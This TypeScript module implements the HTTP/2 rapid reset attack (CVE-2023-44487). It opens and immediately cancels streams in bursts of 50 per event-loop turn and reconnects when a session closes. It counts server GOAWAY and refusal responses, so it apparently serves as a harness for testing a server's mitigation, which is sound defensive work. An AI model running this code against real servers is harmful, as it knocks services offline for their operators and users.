/** HTTP/2 rapid reset (CVE-2023-44487) as a client does it: streams opened and reset at once. */
import http2 from "node:http2";
import { accepted, connectFrom, RECOGNIZE } from "./raw-http2.js";

const { NGHTTP2_CANCEL, NGHTTP2_ENHANCE_YOUR_CALM } = http2.constants;

/** Opens a Recognize stream carrying `body` (its request not ended) and resets it at once with `code`, as a client cancelling does. */
export function openAndReset(session: http2.ClientHttp2Session, body: Uint8Array, code = NGHTTP2_CANCEL): void {
  const stream = session.request(RECOGNIZE, { endStream: false });
  stream.on("error", () => {});
  stream.write(body);
  stream.close(code);
}

/**
 * Resets streams on `session` with `code` until it is closed or `most` have been reset; how many.
 * A turn at a time: a client sends at most the server's concurrent streams at once.
 */
export async function resetUntilClosed(session: http2.ClientHttp2Session, most: number, code = NGHTTP2_CANCEL): Promise<number> {
  let reset = 0;
  while (!session.closed && !session.destroyed && reset < most) {
    for (let i = 0; i < 50; i++, reset++) openAndReset(session, new Uint8Array(5), code);
    await new Promise((resolve) => setImmediate(resolve));
  }
  return reset;
}

/** A client on `from` opening Recognize streams and resetting each, 50 an event-loop turn, reconnecting when closed. */
export function startRapidReset(url: string, from: string, body: Uint8Array) {
  let stopped = false;
  const seen = { streams: 0, connections: 0, calmedDown: 0, refused: 0 };
  const attack = (async () => {
    while (!stopped) {
      const session = connectFrom(url, from);
      seen.connections++;
      session.on("goaway", (code) => code === NGHTTP2_ENHANCE_YOUR_CALM && seen.calmedDown++);
      if (!(await accepted(session))) seen.refused++;
      while (!stopped && !session.closed && !session.destroyed) {
        for (let i = 0; i < 50 && !session.closed && !session.destroyed; i++) {
          openAndReset(session, body);
          seen.streams++;
        }
        await new Promise((resolve) => setImmediate(resolve));
      }
      session.destroy();
    }
  })();
  return {
    async stop() {
      stopped = true;
      await attack;
      return seen;
    },
  };
}
